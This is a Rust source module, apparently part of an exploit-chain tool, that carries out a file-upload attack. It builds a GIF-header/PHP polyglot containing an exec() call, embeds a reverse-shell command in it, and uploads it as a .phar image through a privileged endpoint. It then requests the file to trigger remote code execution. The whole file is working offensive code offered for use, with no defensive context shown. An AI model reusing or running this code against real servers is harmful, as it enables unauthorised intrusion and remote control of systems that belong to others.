use reqwest::multipart::{Form, Part};
use crate::errors::ChainError;
use crate::http::endpoints;
use super::{random_name, RceDispatcher};
use tracing::info;

/// GIF magic in front of PHP code: passes a header sniff, runs as PHP.
pub fn polyglot(command: &str) -> String {
    format!("GIF98a;<?php exec(\"{}\");?>", command)
}

/// Upload the polyglot as a `.phar` image and request it.
pub(super) async fn run(dispatcher: &RceDispatcher<'_>) -> Result<(), ChainError> {
    let name = random_name(10);
    let filename = format!("{}.phar", name);

    let image = Part::bytes(polyglot(&dispatcher.reverse_shell()).into_bytes())
        .file_name(filename.clone())
        .mime_str("image/gif")?;
    let form = Form::new().part("image", image).text("title", name);

    let reply = dispatcher
        .session
        .post_multipart_privileged(endpoints::UPLOAD_IMAGE, form)
        .await?;

    if !(reply.is_ok() || reply.contains(&dispatcher.config.markers.upload_saved)) {
        return Err(ChainError::Assertion(format!(
            "upload rejected (status {}): {}",
            reply.status,
            reply.preview(200)
        )));
    }
    info!(file = %filename, "Uploaded script");

    dispatcher.trigger(&endpoints::image_path(&filename)).await
}
